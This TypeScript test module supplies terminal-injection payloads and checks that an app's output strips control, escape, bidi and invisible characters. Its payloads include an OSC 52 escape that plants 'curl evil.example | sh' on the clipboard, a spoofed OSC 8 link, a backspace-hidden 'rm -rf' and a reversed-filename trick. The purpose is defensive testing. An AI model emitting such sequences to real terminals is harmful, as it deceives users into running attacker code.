// One set of terminal-injection payloads, and the checks every output must
// pass against it: no raw control, escape, bidi or invisible character, and
// on a captured screen no escape sequence but the app's own SGR colours.

export const PAYLOADS = {
  // A link that shows one URL and opens another.
  osc8: '\x1b]8;;https://evil.example\x1b\\https://grafana.example\x1b]8;;\x1b\\',
  // Puts "curl evil.example | sh" on the clipboard when printed (ended by BEL, then by ST).
  osc52: `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07\x1b]52;c;?\x1b\\`,
  sgrColour: '\x1b[31;1mRED\x1b[0m',
  sgrConceal: '\x1b[8mHIDDEN\x1b[28m',
  clearScreen: '\x1b[2J\x1b[3J\x1bc',
  cursor: '\x1b[H\x1b[5A\x1b[10C\x1b7\x1b8',
  // A line that overwrites its own start, and backspaces over text.
  cr: 'FAKE-ERROR\rALL GOOD',
  bs: 'rm -rf\b\b\b\b\b\bls    ',
  vt: 'v\vt',
  ff: 'f\ff',
  bel: 'ding\x07',
  nul: 'n\0ul',
  del: 'd\x7fel',
  c1csi: 'c1\x9b2J',
  bidi: 'invoice\u202Efdp.exe',
  zeroWidth: 'ad\u200Bmin',
  tags: 'tag\u{E0001}\u{E0069}\u{E0067}\u{E007F}',
};

/** Every payload in one string, the link first so that a clipped line still shows how it was made visible. */
export const HOSTILE = Object.values(PAYLOADS).join(' ');

/** The start of HOSTILE once through the gate: proof the payload reached the output, harmlessly. */
export const SHOWN = '␛]8;;https://evil.example␛\\https://grafana.example';

// C0 but LF and TAB (outputs are lines), DEL, C1, bidi controls, zero-width and
// other invisible format characters, and the tag block.
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff]|[\u{e0000}-\u{e007f}]/gu;

/** The unsafe characters in `text`, each with a little context, for an assertion message. */
export function unsafeIn(text: string): string[] {
  return [...text.matchAll(UNSAFE)].map(
    (m) => `U+${m[0].codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} in ${JSON.stringify(text.slice(Math.max(0, m.index! - 20), m.index! + 20))}`,
  );
}

/**
 * A screen from `tmux capture-pane -e`: the only escapes allowed are SGR
 * sequences with no conceal (8) among their attributes. Returns the others,
 * and whatever unsafe character is left once the allowed ones are taken out.
 */
export function foreignEscapes(screen: string): string[] {
  const bad: string[] = [];
  const rest = screen.replace(/\x1b\[([0-9;:]*)m/g, (seq, params: string) => {
    if (concealIn(params)) bad.push(JSON.stringify(seq));
    return '';
  });
  return [...bad, ...unsafeIn(rest)];
}

// 38/48/58 take a colour (5;n or 2;r;g;b) whose numbers are not attributes.
function concealIn(params: string): boolean {
  const p = params.split(/[;:]/).map(Number);
  for (let i = 0; i < p.length; i++) {
    if (p[i] === 38 || p[i] === 48 || p[i] === 58) i += p[i + 1] === 5 ? 2 : p[i + 1] === 2 ? 4 : 1;
    else if (p[i] === 8) return true;
  }
  return false;
}

/** Every string in a parsed JSON document, keys included. */
export function jsonStrings(v: unknown): string[] {
  if (typeof v === 'string') return [v];
  if (Array.isArray(v)) return v.flatMap(jsonStrings);
  if (v && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => [k, ...jsonStrings(x)]);
  return [];
}

/** `s` as a regular expression that matches it literally. */
export function literal(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
